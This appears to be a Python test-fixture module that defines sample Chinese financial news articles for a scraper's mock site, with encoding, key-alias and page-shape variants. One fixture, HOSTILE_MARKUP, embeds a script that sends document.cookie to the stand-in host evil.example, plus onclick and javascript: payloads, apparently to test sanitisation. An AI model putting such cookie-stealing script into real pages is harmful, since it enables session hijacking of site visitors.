"""The sample site's articles: the golden one plus one for each shape the site serves."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from importlib import resources

INDENT = "\u3000\u3000"


@dataclass(frozen=True)
class SampleArticle:
    code: str
    title: str
    showtime: str  # as the data endpoint writes it
    medianame: str  # the JSON's outlet field ("" when absent)
    text: str  # the body HTML as served
    # JSON field name for each canonical one; None: the data endpoint answers 404.
    data_keys: dict[str, str] | None = field(
        default_factory=lambda: {
            "infoCode": "infoCode",
            "title": "title",
            "showtime": "showtime",
            "medianame": "medianame",
            "text": "text",
        }
    )
    page: str = "full"  # "full": rendered page; "shell": empty #ContentBody
    page_time: str = ""  # how the page writes the time ("" = showtime)
    page_source: str = ""  # div.source text ("" = no div.source)
    encoding: str = "utf-8"  # of the share page
    charset_in_header: bool = True  # else only <meta charset>

    def json(self) -> dict[str, str] | None:
        if self.data_keys is None:
            return None
        values = {
            "infoCode": self.code,
            "title": self.title,
            "showtime": self.showtime,
            "medianame": self.medianame,
            "text": self.text,
        }
        return {
            self.data_keys[key]: value for key, value in values.items() if key in self.data_keys
        }


def _golden_body() -> str:
    answer = resources.files(__package__) / "data" / "NW202205202385404088.json"
    return json.loads(answer.read_text("utf-8"))["text"]


def _body(*paragraphs: str, outlet: str | None = None) -> str:
    html = "\n ".join(f"<p>{INDENT}{p}</p>" for p in paragraphs)
    if outlet is not None:
        html += f'<p class="em_media">（文章来源：{outlet}）</p>'
    return html


ALIASES = {
    "infoCode": "infocode",
    "title": "title",
    "showtime": "datetime",
    "medianame": "from",
    "text": "content",
}

EASTMONEY_MARKUP = (
    f'<p>{INDENT}<span id="stock_000001"><a href="http://quote.eastmoney.com/unify/r/0.000001"'
    ' class="em_stock_key_common" data-code="0,000001">平安银行</a></span>'
    "（000001）5月19日晚间公告，董事会审议通过了分红方案。</p>\n"
    ' <p style="text-align:center;"><img src="/img/photo.jpg"'
    ' width="578" style="max-width:100%;height:auto;" alt="图表"></p>\n'
    ' <table border="1" cellpadding="4"><tbody><tr><th>项目</th><th>金额（亿元）</th></tr>\n'
    " <tr><td>营业收入</td><td>462.07</td></tr><tr><td>净利润</td><td>128.50</td></tr>"
    "</tbody></table>\n"
    f" <p>{INDENT}<strong>分析人士认为</strong>，银行板块估值处于历史低位，"
    '详见<a href="http://finance.eastmoney.com/a/202205192385400000.html">相关报道</a>。</p>'
    '<p class="em_media">（文章来源：证券时报）</p>'
)

HOSTILE_MARKUP = (
    f"<p>{INDENT}监管部门发布通知，要求加强理财产品信息披露。</p>\n"
    "<script>document.location='http://evil.example/'+document.cookie</script>\n"
    ' <div class="ad_context_news">广告：开户就送好礼</div>\n'
    f' <p onclick="steal()">{INDENT}通知明确了过渡期安排。'
    '<a href="javascript:alert(1)">点击查看</a></p><!-- tracking -->\n'
    ' <iframe src="http://ads.example/frame"></iframe>'
    '<p class="em_media">（文章来源：中国银行保险报）</p>'
)

ARTICLES: list[SampleArticle] = [
    SampleArticle(
        code="NW202205202385404088",
        title="数字化就业赋能欠发达县域发展",
        showtime="2022-05-20 02:56:47",
        medianame="河北日报",
        text=_golden_body(),
        page_source="河北日报",
    ),
    SampleArticle(
        code="NW202205202385500001",
        title="重庆出台稳经济一揽子措施",
        showtime="2022-05-20 09:15:02",
        medianame="重庆晨报",
        text=_body(
            "重庆市政府发布稳经济政策措施。", "措施涵盖财政、金融等方面。", outlet="重庆晨报"
        ),
        data_keys=ALIASES,
        page="shell",
    ),
    SampleArticle(
        code="NW202205202385500002",
        title="沪指震荡收涨 两市成交额超8000亿元",
        showtime="2022-05-20 15:30:00",
        medianame="",
        text=_body("沪指全天震荡，尾盘收涨。", outlet="上海<span>证券</span>报"),
    ),
    SampleArticle(
        code="NW202205202385500003",
        title="36氪：新能源汽车5月销量预测",
        showtime="2022-05-21 10:05",
        medianame="36氪",
        text=_body("多家车企公布5月交付量。", outlet="36氪"),
        data_keys=None,
        page_time="2022-05-21 10:05",
    ),
    SampleArticle(
        code="NW202205212385500004",
        title="厦门港集装箱吞吐量同比增长",
        showtime="2022-05-21 11:20:00",
        medianame="厦门日报",
        text=_body("厦门港前4月吞吐量稳步增长。", outlet="厦门日报"),
        data_keys=None,
        page_time="2022年05月21日 11:20",
        page_source="厦门日报",
        encoding="gbk",
    ),
    SampleArticle(
        code="NW202205212385500005",
        title="港股收评：恒指涨超1%",
        showtime="2022-05-21 16:10:00",
        medianame="安信国际证券(香港)",
        text=_body("恒生指数收涨1.2%。"),
        data_keys=None,
        page_time="2022-05-21 16:10",
        page_source="安信国际证券(香港)",
        encoding="gb2312",
        charset_in_header=False,
    ),
    SampleArticle(
        code="NW202205222385500006",
        title="平安银行公布2021年度分红方案",
        showtime="2022-05-22 08:00:00",
        medianame="证券时报",
        text=EASTMONEY_MARKUP,
    ),
    SampleArticle(
        code="NW202205222385500007",
        title="二十国集团财长会议闭幕",
        showtime="2022-05-22 07:45",
        medianame="21世纪经济报道 21财经APP",
        text=_body("会议讨论了全球经济形势。"),
        page="shell",
    ),
    SampleArticle(
        code="NW202205222385500008",
        title='评论："稳增长"需要更大力度 C:\\财经\\观察',
        showtime="2022-05-22 12:00:00",
        medianame="经济日报",
        text=_body("稳增长政策需要加力。", outlet="经济日报"),
    ),
    SampleArticle(
        code="NW202205232385500009",
        title="银保监会：规范理财产品信息披露",
        showtime="2022-05-23 09:00:00",
        medianame="中国银行保险报",
        text=HOSTILE_MARKUP,
    ),
    SampleArticle(
        code="NW202205232385500010",
        title="央行开展逆回购操作",
        showtime="2022-05-23 09:30:00",
        medianame="",
        text=_body("央行开展100亿元7天期逆回购操作。"),
        data_keys=None,
        page_time="2022-05-23 09:30:00",
        page_source="来源：金融时报",
    ),
    SampleArticle(
        code="202112082206672930",
        title="河北出台支持中小企业发展措施",
        showtime="2021-12-08 18:22:31",
        medianame="河北日报",
        text=_body("河北省出台二十条措施支持中小企业。", outlet="河北日报"),
    ),
]

BY_CODE = {article.code: article for article in ARTICLES}


def generated_code(number: int) -> str:
    return f"GEN{number:010d}"


def generated(count: int, start: int = 0) -> list[SampleArticle]:
    """``count`` articles the size of the golden one, for load tests and the benchmark.

    They share one body string, so a large site costs little memory.
    """
    body = ARTICLES[0].text
    return [
        SampleArticle(
            code=generated_code(number),
            title=f"生成的文章 {number}",
            showtime=f"2022-05-{1 + number % 28:02d} {number % 24:02d}:{number % 60:02d}:07",
            medianame="河北日报",
            text=body,
        )
        for number in range(start, start + count)
    ]
